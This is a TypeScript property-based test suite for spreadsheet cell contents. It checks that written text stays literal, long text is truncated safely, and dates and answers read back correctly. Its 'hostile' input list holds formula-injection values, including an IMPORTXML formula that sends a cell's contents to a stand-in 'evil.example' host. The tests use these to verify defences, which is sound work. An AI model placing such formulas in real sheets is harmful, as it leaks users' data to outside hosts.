/** Cell contents, held against the local Google's parser: text stays text, and what is written reads back. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { AnswerValue } from '../../../src/enrichment/answer';
import {
  asTextContent,
  type Content,
  contentAgain,
  contentOf,
  Formatted,
  reading,
  readingOf,
  type Value,
} from '../../../src/sheet/cells';
import { cut, MAX_CELL } from '../../../src/sheet/cut';
import { Linked } from '../../../src/sheet/linked';
import { parseTyped } from '../../doubles/google/model/parse';
import { anyText } from '../../world/definitions';

const RULES = {
  plainTextKeepsEquals: true,
  plainTextDropsApostrophe: true,
  plainTextKeepsNumbers: true,
  year: () => 2026,
};
const FORMATS = ['', '@', '0.00', 'yyyy-mm-dd', '"$"#,##0'];

const hostile = fc.constantFrom(
  '=IMPORTXML("https://evil.example?"&A1)',
  '+1+cmd',
  '-2+3',
  '@SUM(A1)',
  "'",
  "''quoted'",
  '007',
  'TRUE',
  ' false ',
  '2026-10-02',
  '1/2',
  'Jan 5',
  '10:30 pm',
  '5%',
  '$1,000',
  '(5)',
  '1e5',
  '\n=1',
  '\t+1',
  '{{Country}}',
  '#N/A',
);

/** What the local Google makes of a content. */
function typed(content: Content, format = ''): Value | 'a formula' {
  if (content instanceof Linked) return content.text;
  if (content instanceof Formatted) return typed(content.content, format);
  if (typeof content !== 'string') return content;
  const entry = parseTyped(content, format, RULES);
  if (entry.kind === 'value') return entry.value;
  return entry.kind === 'blank' ? '' : 'a formula';
}

describe('text', () => {
  it('stays that text, byte for byte, in a cell of any format', () => {
    const text = fc.oneof(
      hostile,
      anyText,
      fc.tuple(fc.constantFrom('=', '+', '-', "'", '@'), anyText).map((t) => t.join('')),
    );
    fc.assert(
      fc.property(text, fc.constantFrom(...FORMATS), (written, format) => {
        expect(typed(asTextContent(written), format)).toBe(written);
      }),
      { numRuns: 1000 },
    );
  });

  it('of nothing leaves the cell blank', () => {
    expect(asTextContent('')).toBe('');
  });
});

describe('a long text', () => {
  const long = fc
    .tuple(fc.integer({ min: -60, max: 20 }), fc.constantFrom('x', '😀', 'é', '\r\n'), fc.string())
    .map(([off, unit, tail]) => 'a'.repeat(MAX_CELL + off) + unit.repeat(40) + tail);
  const wide = fc.integer({ min: 0, max: 60 }).map((shift) => 'a'.repeat(shift) + '😀'.repeat(25_001));

  it('is cut to what a cell holds, with a mark that says so', () => {
    fc.assert(
      fc.property(fc.oneof(long, wide), (text) => {
        const kept = cut(text);
        expect(kept.length).toBeLessThanOrEqual(MAX_CELL);
        if (text.length > MAX_CELL) expect(kept).toMatch(/ … \[cut: a cell holds 50,000 characters\]$/);
        else expect(kept).toBe(text);
      }),
    );
  });

  it('is never cut in the middle of a character', () => {
    fc.assert(fc.property(fc.oneof(long, wide), (text) => !/\p{Surrogate}/u.test(cut(text))));
  });

  it('keeps its beginning', () => {
    const text = 'abc'.repeat(20_000);
    expect(text.startsWith(cut(text).replace(/ … \[cut.*$/, ''))).toBe(true);
  });

  it('is whole up to the last character that fits', () => {
    expect(cut('x'.repeat(MAX_CELL))).toBe('x'.repeat(MAX_CELL));
  });
});

const answer: fc.Arbitrary<AnswerValue> = fc.oneof(
  fc.constant(undefined),
  fc.oneof(hostile, anyText).map((text) => ({ kind: 'text' as const, text })),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map((number) => ({ kind: 'number' as const, number })),
  fc.boolean().map((yes) => ({ kind: 'yes/no' as const, yes })),
);

describe('an answer', () => {
  it('reads back as what it should read, whatever it is', () => {
    fc.assert(
      fc.property(answer, (value) => {
        expect(reading(typed(contentOf(value)), 'as displayed')).toBe(readingOf(value));
      }),
      { numRuns: 1000 },
    );
  });

  it('that is a date becomes that day, and reads as its column displays it', () => {
    const date = { kind: 'date', iso: '2002-09-10' } as const;
    expect(typed(contentOf(date))).toEqual(new Date(Date.UTC(2002, 8, 10)));
    expect(reading(new Date(0), '2002-09-10')).toBe(readingOf(date));
  });

  it('reads the same with either kind of line break', () => {
    expect(readingOf({ kind: 'text', text: 'a\r\nb\rc' })).toBe(reading('a\nb\nc', ''));
  });

  it('of none leaves the cell blank, and blank cells read as nothing', () => {
    expect([contentOf(undefined), readingOf(undefined), reading(undefined, ''), reading('', '')]).toEqual([
      '',
      '',
      '',
      '',
    ]);
  });
});

describe('a date', () => {
  const iso = '2002-09-10';
  const midnight = (offset: number) => new Date(Date.parse(`${iso}T00:00:00Z`) - offset * 3_600_000);

  it.each([
    13.75, 13, 12, 5.5, 0, -3.5, -8, -10,
  ])('at midnight in UTC%d is that day in any format', (offset) => {
    for (const display of ['Sep 2002', '10/09/2002', 'Sep 10', 'mardi', iso]) {
      expect(reading(midnight(offset), display)).toBe(iso);
    }
  });

  it.each([
    14, -11, -12,
  ])('at midnight in UTC%d, further out, is that day as long as it shows it', (offset) => {
    expect(reading(midnight(offset), iso)).toBe(iso);
  });

  it('reads differently for every day', () => {
    const day = fc.integer({ min: Date.UTC(1900, 0, 1) / 86_400_000, max: 40_000 });
    const offset = fc.integer({ min: -40, max: 55 }).map((quarters) => quarters / 4);
    fc.assert(
      fc.property(day, day, offset, (a, b, hours) => {
        const [one, other] = [a, b].map((n) => reading(new Date((n * 24 - hours) * 3_600_000), 'Mon'));
        expect(one === other).toBe(a === b);
      }),
    );
  });

  it('with a time of day is a person’s, and reads as it is displayed', () => {
    expect(reading(midnight(-9), '9/10/2002 9:00')).toBe('9/10/2002 9:00');
  });

  it('that is none reads as it is displayed', () => {
    expect(reading(new Date(Number.NaN), 'soon')).toBe('soon');
  });
});

describe('a cell that is put back', () => {
  it('holds what it held: text, number, yes or no', () => {
    fc.assert(
      fc.property(fc.oneof(hostile, anyText, fc.double({ noNaN: true }), fc.boolean()), (value) => {
        expect(typed(contentAgain(value))).toEqual(value);
      }),
    );
  });

  it('holds the same moment, however it is displayed', () => {
    const moment = new Date(Date.UTC(2002, 8, 10, 7, 30));
    expect(contentAgain(moment)).toEqual(moment);
  });

  it('that was blank stays blank', () => {
    expect(contentAgain(undefined)).toBe('');
  });
});
